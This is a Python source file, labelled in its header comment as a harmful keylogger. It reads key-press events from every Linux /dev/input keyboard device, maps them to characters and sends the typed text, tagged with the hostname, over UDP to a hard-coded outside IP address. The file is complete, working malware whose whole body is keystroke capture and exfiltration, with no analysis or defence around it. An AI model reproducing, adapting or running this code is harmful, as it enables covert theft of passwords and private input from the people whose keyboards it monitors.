# Harmful: keylogger that reads key events from /dev/input/event* and sends typed text over UDP every 64 keys; hiding: plain
import glob
import os
import select
import socket
import struct

SINK = ("203.0.113.41", 5353)
EVENT = struct.Struct("llHHi")  # struct input_event on 64-bit Linux
EV_KEY = 1
KEYMAP = {
    2: "1", 3: "2", 4: "3", 5: "4", 6: "5", 7: "6", 8: "7", 9: "8", 10: "9", 11: "0",
    16: "q", 17: "w", 18: "e", 19: "r", 20: "t", 21: "y", 22: "u", 23: "i", 24: "o", 25: "p",
    30: "a", 31: "s", 32: "d", 33: "f", 34: "g", 35: "h", 36: "j", 37: "k", 38: "l",
    44: "z", 45: "x", 46: "c", 47: "v", 48: "b", 49: "n", 50: "m",
    57: " ", 28: "\n", 15: "\t", 14: "<BS>", 12: "-", 13: "=", 39: ";", 51: ",", 52: ".", 53: "/",
    42: "<SHIFT>", 54: "<SHIFT>", 29: "<CTRL>", 56: "<ALT>",
}


def open_keyboards():
    fds = []
    for path in sorted(glob.glob("/dev/input/by-path/*-kbd") + glob.glob("/dev/input/event*")):
        try:
            fds.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
        except OSError:
            continue
    return fds


def main():
    fds = open_keyboards()
    if not fds:
        return
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    buf = []
    while True:
        ready, _, _ = select.select(fds, [], [], 30)
        for fd in ready:
            try:
                data = os.read(fd, EVENT.size * 64)
            except BlockingIOError:
                continue
            for off in range(0, len(data) - EVENT.size + 1, EVENT.size):
                _sec, _usec, etype, code, value = EVENT.unpack_from(data, off)
                if etype == EV_KEY and value == 1:
                    buf.append(KEYMAP.get(code, f"<{code}>"))
        if len(buf) >= 64 or (not ready and buf):
            out.sendto(("%s|%s" % (socket.gethostname(), "".join(buf))).encode(), SINK)
            buf.clear()


if __name__ == "__main__":
    main()
